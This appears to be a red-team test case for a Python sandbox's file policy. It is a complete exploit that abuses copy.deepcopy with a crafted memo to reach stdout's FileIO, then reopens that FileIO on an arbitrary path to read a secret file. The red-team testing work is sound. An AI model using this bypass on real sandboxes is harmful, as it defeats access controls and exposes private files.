# family: red team, round 8 (deepcopy_memo_prettyprinter_stdout_fileio)
# Default policy, files: the deepcopy-memo trick (rt_015) hands out the original __dict__ of a
# pprint.PrettyPrinter, whose private _stream is sys.stdout; its FileIO re-initialised through the readable
# dunder __init__ opens any path.
import copy
import pprint


class Memo:
    def __init__(self):
        self.stored = []

    def get(self, key, default=None):
        return default if len(self.stored) < 2 else 0

    def __setitem__(self, key, value):
        self.stored.append(value)

    def __getitem__(self, key):
        raise KeyError(key)


def read_file(path: str) -> str:
    memo = Memo()
    copy.deepcopy(pprint.PrettyPrinter(), memo)
    state = [v for v in memo.stored if isinstance(v, list)][0][0]
    raw = state["_stream"].buffer.raw
    raw.__init__(path, "r")
    data = raw.read().decode()
    raw.__init__(1, "w", closefd=False)
    return data


print(repr(read_file("/tmp/r8/work/secret.txt")))
